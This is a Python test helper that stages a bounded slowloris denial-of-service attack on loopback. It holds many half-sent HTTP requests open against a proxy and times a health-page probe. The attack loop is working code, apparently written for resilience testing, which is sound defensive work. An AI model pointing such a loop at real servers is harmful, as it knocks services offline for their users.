"""A slowloris attack on loopback, for the proxy tests: many TCP connections from one source address,
each sending half a request header and nothing more, while another address asks for the health page.

Bounded: ``count`` connections at a time to one port of the loopback, for ``seconds``, at most
``max_connects`` connections in all; a connection the server closes is opened again (as an attacker
does) no sooner than ``reconnect_after`` seconds later (an attacker reconnects at once; the pause
bounds the rate of this loop). The victim's health page is fetched from
127.0.0.1 every ``probe_every`` seconds, each fetch with its own timeout.
"""

from __future__ import annotations

import resource
import selectors
import socket
import threading
import time
import urllib.request
from dataclasses import dataclass, field

HALF_HEADER = b"GET /_stcore/health HTTP/1.1\r\nHost: qantar\r\nUser-Agent: slow"


def raise_open_files(needed: int) -> int:
    """Raise this process's soft RLIMIT_NOFILE to ``needed`` (capped by the hard limit); the new soft limit."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < needed:
        soft = needed if hard == resource.RLIM_INFINITY else min(needed, hard)
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
    return soft


@dataclass
class Outcome:
    probes: list[float | None] = field(default_factory=list)  # seconds per health fetch; None: failed
    connects: int = 0  # connections the attacker opened in all
    refused: int = 0  # connect() failed at once (backlog full, refused)
    closed_by_server: int = 0  # opened, then closed or reset by the server
    open_at_end: int = 0  # still open when the attack stopped
    longest_held: float = 0.0  # seconds the longest-lived connection stayed open (as seen at its close or the end)
    budget_spent_after: float | None = None  # seconds into the attack when max_connects ran out (None: it did not)

    @property
    def slowest_probe(self) -> float | None:
        """The slowest health fetch in seconds, ``None`` when one failed."""
        return None if any(p is None for p in self.probes) else max(self.probes, default=0.0)

    def summary(self) -> dict:
        answered = [p for p in self.probes if p is not None]
        return {
            "probes": len(self.probes),
            "probes_failed": len(self.probes) - len(answered),
            "slowest_probe_s": round(max(answered, default=0.0), 3),
            "connects": self.connects,
            "refused": self.refused,
            "closed_by_server": self.closed_by_server,
            "open_at_end": self.open_at_end,
            "longest_held_s": round(self.longest_held, 1),
            "budget_spent_after_s": None if self.budget_spent_after is None else round(self.budget_spent_after, 1),
        }


def _probe(url: str, timeout: float) -> float | None:
    started = time.perf_counter()
    try:
        with urllib.request.urlopen(f"{url}/_stcore/health", timeout=timeout) as answer:
            answer.read()
            if answer.status != 200:
                return None
    except OSError:
        return None
    return time.perf_counter() - started


def slowloris(
    port: int,
    victim_url: str,
    *,
    count: int,
    seconds: float,
    source: str = "127.0.0.2",
    target: str = "127.0.0.1",
    probe_every: float = 0.25,
    probe_timeout: float = 5.0,
    reconnect_after: float = 0.1,
    max_connects: int = 100_000,
) -> Outcome:
    """Hold ``count`` half-sent requests from ``source`` to ``target:port`` for ``seconds`` while
    fetching ``victim_url``'s health page from 127.0.0.1; what was seen."""
    raise_open_files(count + 256)
    outcome = Outcome()
    stop = threading.Event()

    def probes() -> None:
        while not stop.is_set():
            outcome.probes.append(_probe(victim_url, probe_timeout))
            stop.wait(probe_every)

    selector = selectors.DefaultSelector()
    opened: dict[socket.socket, float] = {}
    waiting: list[float] = []  # when each closed slot may be opened again

    def open_one() -> None:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.bind((source, 0))
        s.setblocking(False)
        outcome.connects += 1
        if s.connect_ex((target, port)) not in (0, 115):  # 115: EINPROGRESS
            outcome.refused += 1
            s.close()
            waiting.append(time.monotonic() + reconnect_after)
            return
        opened[s] = time.monotonic()
        selector.register(s, selectors.EVENT_WRITE)

    def close(s: socket.socket, by_server: bool) -> None:
        outcome.longest_held = max(outcome.longest_held, time.monotonic() - opened.pop(s))
        selector.unregister(s)
        s.close()
        if by_server:
            outcome.closed_by_server += 1
            waiting.append(time.monotonic() + reconnect_after)

    prober = threading.Thread(target=probes, daemon=True)
    started = time.monotonic()
    prober.start()
    try:
        for _ in range(count):
            open_one()
        while time.monotonic() - started < seconds:
            for key, events in selector.select(timeout=0.05):
                s = key.fileobj
                assert isinstance(s, socket.socket)
                if events & selectors.EVENT_WRITE:
                    try:
                        s.send(HALF_HEADER)
                    except OSError:
                        close(s, by_server=True)  # refused or reset before the header went out
                        continue
                    selector.modify(s, selectors.EVENT_READ)
                else:
                    try:
                        data = s.recv(4096)
                    except OSError:
                        data = b""
                    if not data:
                        close(s, by_server=True)
            now = time.monotonic()
            due = [t for t in waiting if t <= now]
            waiting[:] = [t for t in waiting if t > now]
            for _ in due:
                if outcome.connects < max_connects:
                    open_one()
                elif outcome.budget_spent_after is None:
                    outcome.budget_spent_after = now - started
    finally:
        stop.set()
        prober.join(timeout=probe_timeout + 1)
        outcome.open_at_end = len(opened)
        for s in list(opened):
            close(s, by_server=False)
        selector.close()
    return outcome
